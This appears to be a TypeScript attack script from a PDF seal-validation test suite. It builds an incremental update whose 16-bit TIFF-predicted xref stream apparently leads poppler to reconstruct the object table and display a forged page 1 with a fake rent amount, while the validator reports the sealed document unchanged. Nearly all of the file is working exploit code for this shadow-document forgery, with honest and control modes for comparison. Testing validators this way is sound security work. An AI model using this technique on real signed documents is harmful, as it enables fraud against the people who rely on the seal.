// a22: an xref stream predicted with TIFF predictor 2 at 16 bits per component. sealcheck and pdf.js add 16-bit
// samples; poppler's StreamPredictor keeps its running sums in an `unsigned char` array (upLeftBuf) and writes one
// byte per component, so it reads other rows. The update's xref stream lists itself and the catalog (object 1) again
// at its sealed offset (sealcheck: nothing changed); poppler reads another offset for the catalog, its Catalog is
// not ok, and PDFDoc::setup reconstructs the table by scanning, where the last `N G obj` wins. Unlisted in the
// update: page 1 re-defined with the header the unlisted scan misses (a22 H1: `00000000004 0 obj`).
// modes: honest (no predictor, same rows and unlisted bytes), plain (tiff16, `4 0 obj` headers: the scan's form),
// tiff16 (zero-padded headers), drop (tiff16, no unlisted bytes: what poppler shows from the predictor alone),
// tiff8 (the control: TIFF at 8 bits, 2 colours, the same rows and hidden bytes: poppler reads it as sealcheck).
//   npx tsx scripts/attack-s17/tiff16.ts <honest|plain|tiff16|drop>   REAL=0 for samples/valid
import { deflateSync } from "node:zlib";
import { NumberAllocator, serialize } from "../../src/augment/writer.js";
import { parsePdf, walkPages } from "../../src/input/pdf/index.js";
import { rawGet } from "../../src/input/pdf/objects.js";
import { wholeSource } from "../../src/input/source.js";
import { resolveLimits } from "../../src/limits.js";
import { save, work } from "../attack36/lib.js";
import { judge, latin, page1 } from "../attack-s16/lib.js";

const mode = process.argv[2] ?? "tiff16";
if (!["honest", "plain", "tiff16", "drop", "tiff8"].includes(mode)) throw new Error("usage: <honest|plain|tiff16|drop|tiff8>");
const p = page1();
const pdf = p.pdf;
const doc = parsePdf(wholeSource(pdf), resolveLimits());
const view = doc.latest();
const page = walkPages(view)[0]!;
const alloc = new NumberAllocator(doc);
const [B, C] = [alloc.take(), alloc.take()];
const rootRef = rawGet(view.trailer, "Root");
if (rootRef?.kind !== "ref") throw new Error("no /Root");
const rootEntry = doc.revisions.at(-1)!.entries.find((e) => e.num === rootRef.num);
if (rootEntry?.type !== "offset") throw new Error("the catalog is not at an offset");
const head = (n: number) => (mode === "plain" ? `${n} 0 obj` : `${String(n).padStart(11, "0")} 0 obj`);
const content = latin("1 g 0 0 2000 2000 re f 0 g BT /F9 28 Tf 60 700 Td (Husleje: 1 kr. pr. maaned) Tj ET\n");
const forgedPage = `<< ${p.kept.join(" ")} /Contents ${B} 0 R /Resources << /Font << /F9 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >> >>`;
const parts: number[][] = [[...pdf]];
let at = pdf.length;
const push = (b: number[]) => {
  parts.push(b);
  at += b.length;
};
if (pdf.at(-1) !== 0x0a) push([0x0a]);
if (mode !== "drop") {
  push([...latin(`${head(B)}\n<< /Length ${content.length} >>\nstream\n`), ...content, ...latin("\nendstream\nendobj\n")]);
  push(latin(`${head(page.ref!.num)}\n${forgedPage}\nendobj\n`));
}
const offC = at;
const row = (type: number, f2: number, f3: number) => [
  type,
  (f2 >>> 24) & 0xff,
  (f2 >>> 16) & 0xff,
  (f2 >>> 8) & 0xff,
  f2 & 0xff,
  (f3 >> 16) & 0xff,
  (f3 >> 8) & 0xff,
  f3 & 0xff,
];
const rows = [...row(1, rootEntry.offset, rootEntry.gen), ...row(1, offC, 0)];
/** TIFF predictor 2, 16-bit samples, one colour, 4 columns (one 8-byte row per entry): differences of samples. */
const tiff = (d: number[]) => {
  const out: number[] = [];
  for (let r = 0; r < d.length; r += 8) {
    let prev = 0;
    for (let i = r; i < r + 8; i += 2) {
      const s = (d[i]! << 8) | d[i + 1]!;
      const diff = (s - prev) & 0xffff;
      out.push(diff >> 8, diff & 0xff);
      prev = s;
    }
  }
  return out;
};
/** The control: TIFF at 8 bits, two colours, 4 columns (8-byte rows): byte differences two apart. */
const tiff8 = (d: number[]) => d.map((b, i) => (i % 8 < 2 ? b : (b - d[i - 2]!) & 0xff));
const data = mode === "honest" ? rows : [...deflateSync(Uint8Array.from(mode === "tiff8" ? tiff8(rows) : tiff(rows)))];
const carried = ["Root", "Info", "ID"].flatMap((k) => {
  const v = rawGet(view.trailer, k);
  return v ? [`/${k} ${serialize(v)}`] : [];
});
const parms =
  mode === "honest"
    ? ""
    : mode === "tiff8"
      ? " /Filter /FlateDecode /DecodeParms << /Predictor 2 /BitsPerComponent 8 /Colors 2 /Columns 4 >>"
      : " /Filter /FlateDecode /DecodeParms << /Predictor 2 /BitsPerComponent 16 /Colors 1 /Columns 4 >>";
push([
  ...latin(
    `${C} 0 obj\n<< /Type /XRef /Size ${C + 1} /W [1 4 3] /Index [${rootRef.num} 1 ${C} 1] /Prev ${doc.revisions.at(-1)!.startxref} ${carried.join(" ")}${parms} /Length ${data.length} >>\nstream\n`,
  ),
  ...data,
  ...latin(`\nendstream\nendobj\nstartxref\n${offC}\n%%EOF\n`),
]);
const file = save(work(`s17-tiff16-${mode}`), "archive.pdf", Uint8Array.from(parts.flat()));
judge(`tiff16 ${mode}`, file);
